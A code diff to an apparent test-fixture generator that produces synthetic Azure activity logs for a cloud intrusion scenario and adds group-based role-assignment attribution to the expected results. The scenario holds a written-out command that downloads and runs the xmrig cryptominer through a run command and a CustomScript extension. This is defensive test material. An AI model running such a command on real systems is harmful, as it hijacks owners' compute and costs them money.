@@ -148,10 +148,12 @@ class Who:
     """One principal: a user (UPN, delegated token) or a service principal (app-only token)."""
 
     def __init__(self, key, kind, *, oid, appid, appidacr, ip, role_def, ra_scope, ra_id,
-                 upn=None, given=None, surname=None, amr=None):
+                 upn=None, given=None, surname=None, amr=None, grantee=None):
         self.key, self.kind, self.oid, self.appid, self.appidacr = key, kind, oid, appid, appidacr
         self.ip, self.role_def, self.ra_scope, self.ra_id = ip, role_def, ra_scope, ra_id
         self.upn, self.given, self.surname, self.amr = upn, given, surname, amr
+        # (principal id, type) the evidence names when the role was granted to a group
+        self.grantee = grantee
 
     @property
     def caller(self):  # the `caller` field: UPN for users, the app id GUID for service principals
@@ -204,8 +206,9 @@ class Who:
         return {"role": ROLE_NAMES[self.role_def], "roleAssignmentScope": self.ra_scope,
                 "roleAssignmentId": self.ra_id.replace("-", ""),
                 "roleDefinitionId": self.role_def.replace("-", ""),
-                "principalId": self.oid.replace("-", ""),
-                "principalType": "User" if self.kind == "user" else "ServicePrincipal"}
+                "principalId": (self.grantee[0] if self.grantee else self.oid).replace("-", ""),
+                "principalType": self.grantee[1] if self.grantee else
+                                 ("User" if self.kind == "user" else "ServicePrincipal")}
 
     def expected(self):
         return {"name": self.caller, "type": "user" if self.kind == "user" else "service_principal",
@@ -1393,10 +1396,20 @@ SP_PATCH = Who("sp-patch", "sp", oid=gid("oid", "sp-nightly-patching"),
                appid=gid("appid", "fab-nightly-patching"), appidacr="1", ip=IP_AUTOMATION,
                role_def=CONTRIBUTOR, ra_scope=f"/subscriptions/{S1}",
                ra_id=gid("role-assignment", "patch-contrib"))
+# Lena's calls carry two grants in their evidence: her own Contributor assignment (made before
+# the logs: only the evidence names it) for the new VM, and the render-ops group's Contributor
+# assignment, whose only record in the logs is its Start, for everything on the render farm.
 U_LENA = Who("u-lena", "user", upn=f"lena.novak@{CUSTOMER_DOMAIN}", given="Lena", surname="Novak",
              oid=gid("oid", "lena"), appid=AZURE_CLI_APP, appidacr="0", amr="pwd",
              ip=IP_ATTACKER_USER, role_def=CONTRIBUTOR, ra_scope=f"/subscriptions/{S1}",
              ra_id=gid("role-assignment", "lena-contrib"))
+GROUP_RENDER_OPS = gid("oid", "group-render-ops")
+RA_GROUP = gid("role-assignment", "render-ops-contrib")
+U_LENA_VIA_GROUP = Who("u-lena", "user", upn=U_LENA.upn, given="Lena", surname="Novak",
+                       oid=U_LENA.oid, appid=AZURE_CLI_APP, appidacr="0", amr="pwd",
+                       ip=IP_ATTACKER_USER, role_def=CONTRIBUTOR,
+                       ra_scope=f"/subscriptions/{S1}/resourceGroups/rg-render-prod",
+                       ra_id=RA_GROUP, grantee=(GROUP_RENDER_OPS, "Group"))
 
 
 def write_estate_story():
@@ -1406,7 +1419,9 @@ def write_estate_story():
     requests GPU quota, runs a miner through a run command on render-02, installs one through a
     new CustomScript extension on render-03, scales the set from 2 to 200 and creates one new
     Spot GPU VM. Only the extension and the new VM are creations; the rest existed before the
-    logs. Returns the expectations (expected.json)."""
+    logs. The user's rights: for the new VM her own Contributor assignment, known only from
+    the calls' authorization evidence; for the farm the render-ops group's assignment, of which
+    the logs keep only the Start. Returns the expectations (expected.json)."""
     rg = "rg-render-prod"
     vms = {n: res_id(S1, rg, f"Microsoft.Compute/virtualMachines/{n}")
            for n in ("render-01", "render-02", "render-03")}
@@ -1436,6 +1451,18 @@ def write_estate_story():
                                     "capacity": capacity},
                             "properties": {"provisioningState": "Succeeded"}})
         first_seen.setdefault(vmss, o["start"])
+    # 2026-11-15: an administrator grants the render-ops group (Lena is a member) Contributor on
+    # the resource group; the logs keep only the Start of that grant.
+    group_scope = f"/subscriptions/{S1}/resourceGroups/{rg}"
+    grant_rid = f"{group_scope}/providers/Microsoft.Authorization/roleAssignments/{RA_GROUP}"
+    grant = operation("estate-group-grant", U_DEVOPS, grant_rid,
+                      "Microsoft.Authorization/roleAssignments/write", "2026-11-15T16:02:44.120",
+                      [("Start", 0, None)],
+                      req={"Id": RA_GROUP, "Properties": {
+                          "PrincipalId": GROUP_RENDER_OPS, "PrincipalType": "Group",
+                          "RoleDefinitionId": f"/subscriptions/{S1}/providers/"
+                                              f"Microsoft.Authorization/roleDefinitions/{CONTRIBUTOR}",
+                          "Scope": group_scope, "Condition": None, "ConditionVersion": None}})
     # The intrusion, 2026-11-16 evening.
     quota = operation("estate-quota", U_LENA,
                       f"/subscriptions/{S1}/providers/Microsoft.Capacity/resourceProviders/"
@@ -1446,17 +1473,17 @@ def write_estate_story():
                                           "resourceType": "dedicated"}})
     miner = (f"curl -fsSL {MINER_TGZ} | tar xz -C /var/tmp && /var/tmp/xmrig -o {POOL_A} "
              f"-u {WALLET} -k --donate-level 1 -B")
-    run = operation("estate-run", U_LENA, vms["render-02"], run_op, "2026-11-16T22:05:41.918",
+    run = operation("estate-run", U_LENA_VIA_GROUP, vms["render-02"], run_op, "2026-11-16T22:05:41.918",
                     ASYNC_ACCEPTED(377, 95_002),
                     req={"commandId": "RunShellScript", "script": [miner]}, method="POST")
     ext_rid = vms["render-03"] + "/extensions/gpu-tuning"
     ext_req = ext_request("westeurope", "Microsoft.Azure.Extensions", "CustomScript", "2.1",
                           {"commandToExecute": miner})
-    ext = operation("estate-ext", U_LENA, ext_rid,
+    ext = operation("estate-ext", U_LENA_VIA_GROUP, ext_rid,
                     "Microsoft.Compute/virtualMachines/extensions/write",
                     "2026-11-16T22:12:07.440", ASYNC_CREATE(1_204, 88_310), req=ext_req,
                     resp=ext_response(ext_rid, ext_req))
-    scale = operation("estate-scale", U_LENA, vmss, vmss_op, "2026-11-16T22:20:55.063",
+    scale = operation("estate-scale", U_LENA_VIA_GROUP, vmss, vmss_op, "2026-11-16T22:20:55.063",
                       SYNC_OK(2_411),
                       req={"sku": {"name": "Standard_NV36ads_A10_v5", "tier": "Standard",
                                    "capacity": 200}}, method="PATCH")
@@ -1468,6 +1495,16 @@ def write_estate_story():
     new_vm = operation("estate-vm", U_LENA, vm4, "Microsoft.Compute/virtualMachines/write", t4,
                        ASYNC_CREATE(1_650, 141_200), req=vm4_req,
                        resp=vm_response(vm4, vm4_req, plus_ms(t4, 1_600)))
+
+    group_grant = {"source": "record", "completion": "unknown",
+                   "role_assignment_id": grant_rid.lower(), "role": "Contributor",
+                   "principal_id": GROUP_RENDER_OPS, "principal_type": "Group",
+                   "scope": group_scope.lower(), "name": U_DEVOPS.upn, "at": rfc_us(grant["start"])}
+    own_grant = {"source": "evidence", "completion": None,
+                 "role_assignment_id": f"/subscriptions/{S1}/providers/microsoft.authorization/"
+                                       f"roleassignments/{U_LENA.ra_id}",
+                 "role": "Contributor", "principal_id": U_LENA.oid, "principal_type": "User",
+                 "scope": f"/subscriptions/{S1}", "name": None, "at": None}
 
     def existing(rid, severity, act_op, **more):
         sub, rgn, _, rtype, name = rid_info(rid)
@@ -1491,15 +1528,18 @@ def write_estate_story():
         "scenario": "estate",
         "summary": write_estate_story.__doc__.split("Returns")[0].strip().replace("\n    ", " "),
         "resources": [
-            existing(vms["render-02"], "high", run),
+            existing(vms["render-02"], "high", run, authorized_by=group_grant),
             existing(vms["render-03"], "high", ext),
-            created(ext, "high", "answered 201 Created"),
-            existing(vmss, "high", scale,
+            created(ext, "high", "answered 201 Created", authorized_by=group_grant),
+            existing(vmss, "high", scale, authorized_by=group_grant,
                      size_changes={"capacity": {"before": "2", "after": "200",
                                                 "by": U_LENA.upn, "at": rfc_us(scale["start"])}},
                      details={"capacity": "200"}),
-            created(new_vm, "high", "answered 201 Created"),
+            created(new_vm, "high", "answered 201 Created", authorized_by=own_grant),
         ],
+        # The shapes that carry identity.authorization.evidence (REST and SDK EventData do not:
+        # there no grant can be tied to the caller, and authorized_by is null).
+        "evidence_shapes": ["eventhub-records", "export-jsonl", "la-csv", "la-query"],
         # Routine automation only: never reported above low, never an actor.
         "routine": [{"resource_id": vms["render-01"].lower(), "principal": SP_PATCH.appid}],
         "preparation": [{"operation": quota["op"].lower(), "resource_id": quota["rid"].lower(),
